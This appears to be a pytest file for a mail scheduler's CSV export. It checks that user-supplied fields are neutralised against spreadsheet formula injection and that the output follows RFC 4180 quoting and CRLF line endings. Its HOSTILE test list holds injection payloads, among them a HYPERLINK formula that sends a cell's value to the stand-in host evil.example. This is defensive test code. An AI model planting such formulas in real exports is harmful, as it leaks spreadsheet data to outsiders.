import csv
import io

import pytest
from maillane.scheduler.v1 import message_service_pb2 as pb
from maillane_scheduler import csv_lines

HOSTILE = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_field_is_a_formula(text: str) -> None:
    """An apostrophe before it makes it text; in each field that others fill."""
    message = pb.Message(recipient=text, recipient_name=text, subject=text, last_reply=text)
    [row] = csv.DictReader(io.StringIO((csv_lines.head() + csv_lines.lines([message])).decode(), newline=""))

    assert {row[name] for name in ("recipient", "name", "subject", "reply")} == {"'" + text}


@pytest.mark.parametrize("text", ["", 'Zoë, “quoted” "twice"', "two\r\nlines", "1=1", "a;b\tc", "日本語"])
def test_every_other_field_is_as_it_is(text: str) -> None:
    """Quotes, commas and line breaks included (RFC 4180)."""
    [row] = csv.DictReader(
        io.StringIO((csv_lines.head() + csv_lines.lines([pb.Message(subject=text)])).decode(), newline="")
    )

    assert row["subject"] == text


def test_lines_end_with_crlf() -> None:
    """RFC 4180 §2.1."""
    assert csv_lines.lines([pb.Message(id="1")]).endswith(b"\r\n")
